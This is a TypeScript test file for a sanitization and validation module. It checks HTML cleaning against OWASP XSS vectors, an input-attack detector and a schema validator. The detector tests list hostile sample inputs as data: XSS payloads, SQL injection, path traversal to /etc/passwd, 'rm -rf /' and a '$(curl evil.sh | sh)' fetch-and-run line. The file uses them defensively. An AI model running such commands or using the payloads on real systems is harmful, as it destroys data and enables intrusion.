import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { JSDOM } from "jsdom";
import { cleanHtml, detectInputAttacks, escapeHtml, sanitize, stripHtml } from "./sanitize.js";
import { AgentwallError } from "../errors.js";
import { InputValidator, fromFieldSchema, type GuideFieldRule } from "./validate.js";

const fixture = (name: string) =>
  JSON.parse(readFileSync(new URL(`../../test/fixtures/html/${name}`, import.meta.url), "utf8")) as unknown;

/** Whether HTML, once parsed, holds anything that runs: scripts, handlers, script URLs, frames. */
function activeContent(html: string): string | undefined {
  const doc = new JSDOM(`<body>${html}</body>`).window.document;
  for (const el of doc.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["script", "iframe", "frame", "object", "embed", "applet", "base", "meta"].includes(tag)) return `<${tag}>`;
    for (const attr of el.attributes) {
      if (attr.name.toLowerCase().startsWith("on")) return `${tag}[${attr.name}]`;
      if (/^\s*(?:javascript|vbscript|data:text\/html)/i.test(attr.value.replace(/[\s\0]/g, "")))
        return `${tag}[${attr.name}=${attr.value.slice(0, 30)}]`;
    }
  }
  return undefined;
}

describe("HTML sanitization (DOMPurify on jsdom)", () => {
  it("matches DOMPurify's own fixtures as the reference does (220 of 223)", () => {
    const cases = fixture("dompurify-expect.json") as {
      title?: string;
      payload: string;
      expected: string | string[];
    }[];
    let same = 0;
    for (const c of cases) {
      const expected = Array.isArray(c.expected) ? c.expected : [c.expected];
      if (expected.includes(cleanHtml(c.payload))) same++;
    }
    assert.equal(cases.length, 223);
    assert.ok(same >= 220, `${same} of ${cases.length}`);
  });

  it("leaves no active content from any OWASP filter-evasion vector", () => {
    const vectors = fixture("owasp_xss_filter_evasion_vectors.json") as { vector: string }[];
    assert.ok(vectors.length >= 100);
    for (const { vector } of vectors) {
      for (const out of [cleanHtml(vector), sanitize(vector, { html: "clean" })]) {
        assert.equal(activeContent(out), undefined, `${vector.slice(0, 80)} -> ${out.slice(0, 80)}`);
      }
      assert.equal(activeContent(stripHtml(vector)), undefined);
      assert.equal(activeContent(escapeHtml(vector)), undefined);
    }
  });

  it("escape, strip, null bytes, NFKC and trim", () => {
    assert.equal(escapeHtml(`<a href="x">'&'</a>`), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
    assert.equal(stripHtml("<b>bold</b> and <script>x()</script>text"), "bold and text");
    assert.equal(sanitize("  ｆｏｏ\0bar  ", { nfkc: true }), "foobar");
  });
});

describe("input attack signals", () => {
  it("flags XSS, SQL injection, path traversal, code and command injection, and not ordinary text", () => {
    const cases: [string, string][] = [
      ["<img src=x onerror=alert(1)>", "xss"],
      ["javascript:alert(document.cookie)", "xss"],
      ["' OR '1'='1", "sql_injection"],
      ["1 UNION SELECT username, password FROM users", "sql_injection"],
      ["../../etc/passwd", "path_traversal"],
      ["..%2f..%2fwindows", "path_traversal"],
      ["{{ self.__init__.__globals__ }}", "code_injection"],
      ["__import__('os').system('id')", "code_injection"],
      ["file.txt; rm -rf /", "command_injection"],
      ["$(curl evil.sh | sh)", "command_injection"],
      ["`whoami`", "command_injection"],
      // URL-encoded once, overlong UTF-8 and null bytes, template-engine probes.
      ["%3Cscript%3Ealert(1)%3C/script%3E", "xss"],
      ["..%c0%af..%c0%afetc/passwd", "path_traversal"],
      ["invoice.pdf%00.png", "path_traversal"],
      ["{{7*7}}", "code_injection"],
      ["${7*7}", "code_injection"],
    ];
    for (const [text, signal] of cases)
      assert.ok(detectInputAttacks(text).includes(signal as never), `${signal}: ${text}`);
    for (const text of [
      "Please select the best option or skip it.",
      "My order #1234 from 2024-01-02",
      "Use the path docs/guide.md",
      "I'd like 2 cats and 1 dog",
      // Markdown code and jQuery are not shell commands.
      "Run `npm install` first",
      "$(document).ready(init)",
      "Discount 100% off",
    ]) {
      assert.deepEqual(detectInputAttacks(text), [], text);
    }
  });
});

describe("input validation", () => {
  it("converts the guides' field schema and names the field and the rule in every error", () => {
    const validator = new InputValidator(
      fromFieldSchema({
        email: { required: true, type: "email" },
        name: { required: true, type: "string", min_length: 2, max_length: 20, pattern: "^[A-Za-z ]+$" },
        age: { type: "integer", min_value: 0, max_value: 150 },
        role: { allowed_values: ["user", "admin"] },
        phone: { type: "phone" },
        file: { type: "safe_filename" },
        code: { type: "alphanumeric" },
        id: { type: "uuid" },
      }),
    );
    assert.deepEqual(
      validator.validate({
        email: "a@b.co",
        name: "Ann Lee",
        age: 30,
        role: "user",
        phone: "+14155552671",
        file: "report.pdf",
        code: "abc123",
        id: "0b6d2a44-8f44-4bdf-9c39-7a3f3f5c1d2e",
      }),
      { valid: true },
    );
    const r = validator.validate({
      email: "nope",
      name: "1",
      age: "30",
      role: "root",
      phone: "12",
      file: "../x",
      code: "a b",
      id: "x",
      extra: 1,
    });
    assert.equal(r.valid, false);
    const rules = r.valid ? [] : r.errors.map((e) => `${e.field} ${e.rule}`);
    for (const expected of [
      "/email format:email",
      "/name pattern",
      "/name minLength",
      "/age type",
      "/role enum",
      "/phone format:phone",
      "/file format:safe_filename",
      "/code format:alphanumeric",
      "/id format:uuid",
      "/extra additionalProperties",
    ]) {
      assert.ok(rules.includes(expected), `${expected} in ${rules.join(", ")}`);
    }
    const missing = validator.validate({});
    assert.ok(!missing.valid && missing.errors.some((e) => e.field === "/email" && e.rule === "required"));
    assert.throws(() => new InputValidator({ type: "string", format: "nonsense" }), { code: "ERR_INVALID_ARGUMENT" });
    assert.deepEqual(new InputValidator({ type: "integer" }).validate("5").valid, false, "no coercion");
  });

  it("refuses a field schema that would check less than it says, or cost too much to compile", () => {
    const refused = (fields: unknown, message: RegExp) =>
      assert.throws(
        () => fromFieldSchema(fields as Record<string, GuideFieldRule>),
        (e: unknown) => e instanceof AgentwallError && e.code === "ERR_INVALID_ARGUMENT" && message.test(e.message),
      );
    refused({ name: { type: "string", maxlen: 5 } }, /\/name: unknown rule "maxlen"/);
    refused({ name: { required: "yes" } }, /\/name: required is true or false/);
    refused({ role: { allowed_values: "admin" } }, /\/role: allowed_values is a list/);
    refused({ name: "string" }, /\/name: the rule is not an object/);
    refused([], /an object of field rules/);
    const many = Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`f${i}`, { type: "string" as const }]));
    refused(many, /at most 64 fields/);
    refused({ code: { pattern: "a".repeat(1001) } }, /\/code: pattern longer than 1000/);
    assert.doesNotThrow(() => fromFieldSchema(Object.fromEntries(Object.entries(many).slice(0, 64))));
  });

  it("holds bounded memory however many distinct patterns callers send; refuses patterns too large", () => {
    setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    const heap = () => {
      gc();
      return process.memoryUsage().heapUsed / 1e6;
    };
    const before = heap();
    // Each pattern compiles to about 1,100 instructions. A shared Ajv kept every one: 20,000 such
    // schemas held 3.9 GB, so these 1,000 about 195 MB.
    for (let i = 0; i < 1000; i++)
      new InputValidator(fromFieldSchema({ x: { pattern: `^(?:ab|cd)+[a-z]{${i % 500},${500 + (i % 500)}}x${i}$` } }));
    const grown = heap() - before;
    assert.ok(grown < 60, `heap grew ${grown.toFixed(0)} MB`);
    assert.throws(() => new InputValidator(fromFieldSchema({ x: { pattern: "[a-z]{1000}[0-9]{1000}[A-Z]{500}" } })), {
      code: "ERR_INVALID_ARGUMENT",
      message: /too large \(\d+ instructions compiled, at most 2000\)/,
    });
    // The meta-schema check still runs on every new schema.
    assert.throws(() => new InputValidator({ type: "string", minLength: "5" }), {
      code: "ERR_INVALID_ARGUMENT",
      message: /minLength must be integer/,
    });
  });

  it("compiles a schema once however often it arrives, and keeps no caller's schema in Ajv", () => {
    const schema = () => fromFieldSchema({ id: { type: "string", pattern: "^[a-z]{3}$" } });
    const first = new InputValidator({ ...schema(), $id: "https://example.com/caller.json" });
    // The same $id again: Ajv refuses an $id it still holds, so this passes only if the first was removed.
    const again = new InputValidator({ ...schema(), $id: "https://example.com/caller.json" });
    assert.deepEqual([first.validate({ id: "abc" }), again.validate({ id: "abcd" }).valid], [{ valid: true }, false]);
    const changed = new InputValidator({ ...schema(), $id: "https://example.com/caller.json", minProperties: 1 });
    assert.equal(changed.validate({}).valid, false);
  });
});
